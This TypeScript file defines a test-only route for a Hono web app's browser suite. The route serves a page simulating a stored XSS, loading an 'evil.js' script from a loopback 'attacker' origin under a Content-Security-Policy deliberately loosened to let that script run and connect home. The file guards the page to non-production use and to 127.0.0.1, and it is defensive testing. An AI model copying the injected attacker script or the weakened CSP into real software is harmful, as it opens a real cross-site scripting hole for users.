import type { GatehouseEnv } from '@gatehouse/hono';
import type { Hono } from 'hono';

/**
 * Pages that exist only for the browser suite (e2e/), never in a real deployment. They are
 * mounted only when READER_TEST_PAGES=1, and the server refuses to start with them in
 * production.
 *
 * GET /__test/xss?attacker=http://127.0.0.1:<port>&run=<id> is a page of the app with an
 * attacker's script in it, as a stored XSS would put it there. Its CSP lets that one script
 * run and talk home: the scorecard's XSS row proves what HttpOnly cookies achieve once the
 * CSP has already been bypassed, so this page plays the bypass.
 */
export function mountTestPages(app: Hono<GatehouseEnv>, env: Record<string, string | undefined> = process.env): void {
  if (env.READER_TEST_PAGES !== '1') return;
  if (env.NODE_ENV === 'production') {
    throw new Error('READER_TEST_PAGES=1 is refused in production: it serves a page that runs foreign script');
  }

  app.get('/__test/xss', (c) => {
    const attacker = loopbackOrigin(c.req.query('attacker'));
    const run = c.req.query('run') ?? '';
    if (attacker === undefined || !/^[\w-]{1,64}$/.test(run)) {
      return c.text('attacker must be an http://127.0.0.1:<port> origin and run a short id', 400);
    }
    c.header(
      'Content-Security-Policy',
      [
        "default-src 'self'",
        `script-src 'self' ${attacker}`,
        `connect-src 'self' ${attacker}`,
        "object-src 'none'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
      ].join('; '),
    );
    const payload = `${attacker}/evil.js?run=${run}`;
    return c.html(
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>XSS test page</title></head>` +
        `<body><p>A feed item with a stored XSS in it.</p><script src="${payload}"></script></body></html>`,
    );
  });
}

/** Only an attacker on loopback, exactly an origin: the page never loads script from the Internet. */
function loopbackOrigin(value: string | undefined): string | undefined {
  if (value === undefined) return undefined;
  try {
    const url = new URL(value);
    if (url.protocol !== 'http:' || url.hostname !== '127.0.0.1' || url.origin !== value) return undefined;
    return url.origin;
  } catch {
    return undefined;
  }
}
